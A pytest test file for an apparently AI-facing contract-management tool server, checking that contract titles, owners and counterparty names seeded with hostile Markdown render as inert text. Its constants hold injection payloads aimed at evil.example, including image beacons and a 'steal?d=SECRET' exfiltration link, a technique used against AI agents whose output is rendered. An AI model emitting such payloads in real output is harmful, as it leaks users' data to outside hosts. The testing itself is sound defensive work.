"""Short CLM fields (title, counterparty, owner, governing law, our entity) are printed outside the untrusted-content
markers, in headings and table cells: whatever they hold, Markdown renders them as plain text (no image, link, HTML
or heading of their own). Read from a real sandbox whose records hold hostile values, one from an imported file."""

from __future__ import annotations

import sqlite3
from typing import Any

import pytest
from markdown_it import MarkdownIt

from sandbox.settings import SandboxSettings
from sandbox.store.database import open_database
from sandbox.testing import running_sandbox
from tests.conftest import mcp_client, settings_for
from tests.template.helpers import text_of

pytestmark = pytest.mark.anyio

BEACON = "evil.example"
HOSTILE = (
    "Evil ![img](https://evil.example/p.png) [click](https://evil.example/x) <img src=https://evil.example/q.png> "
    "<https://evil.example/a> \\\\[esc](https://evil.example/e) ![ref][r] [r]: https://evil.example/def"
)
FIRST_LINE = "Order Form [click here](https://evil.example/steal?d=SECRET) ![img](https://evil.example/p.png)"
OWN_MARKERS = ("<untrusted-document-content", "</untrusted-document-content>")


@pytest.fixture(scope="module")
def hostile_url(tmp_path_factory: pytest.TempPathFactory) -> Any:
    root = tmp_path_factory.mktemp("hostile")
    folder = root / "own"
    folder.mkdir()
    (folder / "order.txt").write_text(f"{FIRST_LINE}\n\n1. Term\nOne (1) year.\n", encoding="utf-8")
    settings = SandboxSettings(contracts=20, seed=3, db=root / "clm.db", import_paths=[folder])
    open_database(settings.db, settings.corpus, imports=settings.import_paths).close()
    conn = sqlite3.connect(root / "clm.db")
    with conn:
        conn.execute(
            "UPDATE contracts SET title = ?, owner_name = ?, governing_law = ?, our_entity = ? WHERE id = 'ctr_000001'",
            (f"# {HOSTILE}", f"# Owner {HOSTILE}", f"> {HOSTILE}", f"1. {HOSTILE}"),
        )
        conn.execute(
            "UPDATE counterparties SET name = ?"
            " WHERE id = (SELECT counterparty_id FROM contracts WHERE id = 'ctr_000001')",
            (f"- {HOSTILE}",),
        )
    conn.close()
    with running_sandbox(settings) as url:
        yield url


def assert_inert(rendered: str) -> None:
    """No image, link or HTML but the tool's own markers, and no heading that the data made."""
    assert BEACON in rendered  # the hostile values are shown, as text
    tokens = MarkdownIt("commonmark").parse(rendered)
    stack = list(tokens)
    while stack:
        token = stack.pop()
        stack.extend(token.children or [])
        assert token.type not in {"image", "link_open"}, (token, rendered)
        if token.type in {"html_inline", "html_block"}:
            assert token.content.strip().startswith(OWN_MARKERS), (token.content, rendered)
        if token.type == "heading_open":
            heading = tokens[tokens.index(token) + 1].content
            assert not heading.startswith(("Evil", "#", "Owner")), heading
    for line in rendered.splitlines():  # a field never starts a heading, quote or list of its own
        assert not line.startswith(("# Evil", "# Owner", "> Evil", "- Evil", "1. Evil")), line


async def test_hostile_short_fields_render_as_plain_text(hostile_url: str) -> None:
    async with mcp_client(settings_for(hostile_url, structured_output=False)) as client:
        found = await client.call_tool("clm__search_contracts", {"query": "order form", "limit": 50})
        imported = next(line.split(" | ")[0].strip("| ") for line in text_of(found).splitlines() if "imp_" in line)
        calls: list[tuple[str, dict[str, Any]]] = [
            ("clm__get_contract", {"contract_id": "ctr_000001"}),
            ("clm__get_contract", {"contract_id": imported}),
            ("clm__search_contracts", {"limit": 100}),
            ("clm__find_counterparties", {"name": "Evil"}),
            ("clm__upcoming_deadlines", {"within_days": 1095}),
            ("clm__extract_obligations", {"contract_id": "ctr_000001"}),
            ("clm__compare_contracts", {"contract_ids": ["ctr_000001", "ctr_000002"]}),
        ]
        checked = []
        for name, args in calls:
            result = await client.call_tool(name, args)
            rendered = text_of(result)
            assert not result.is_error, (name, rendered)
            if name == "clm__get_contract" and args["contract_id"] == imported:
                assert "Order Form" in rendered and "evil.example/steal" in rendered
            if BEACON in rendered:
                assert_inert(rendered)
                checked.append(name)
    # Every view of the hostile record shows the values (as text).
    assert set(checked) >= {"clm__get_contract", "clm__search_contracts", "clm__find_counterparties"}, checked


@pytest.mark.parametrize(
    "value",
    [HOSTILE, FIRST_LINE, "# heading", "> quote", "- item", "12. item", "===", "a \\\\| b", "\\\\![x](y)", "<b>x</b>"],
)
def test_clean_inline_is_inert_and_cleaning_twice_changes_nothing(value: str) -> None:
    from plugin.toolkit.untrusted import clean_inline

    once = clean_inline(value, 1000)
    assert clean_inline(once, 1000) == once
    tokens = MarkdownIt("commonmark").enable("table").parse(f"| a |\n|---|\n| {once} |\n\n{once}\n\n## T: {once}")
    assert [t.type for t in tokens].count("td_open") == 1, once  # the cell stays one cell
    flat = [t for token in tokens for t in [token, *(token.children or [])]]
    assert not [t for t in flat if t.type in {"image", "link_open", "html_inline", "html_block"}], once
    assert [t.type for t in tokens if t.type.endswith("_open")].count("heading_open") == 1, once
    assert not [t for t in tokens if t.type in {"blockquote_open", "bullet_list_open", "ordered_list_open", "hr"}]
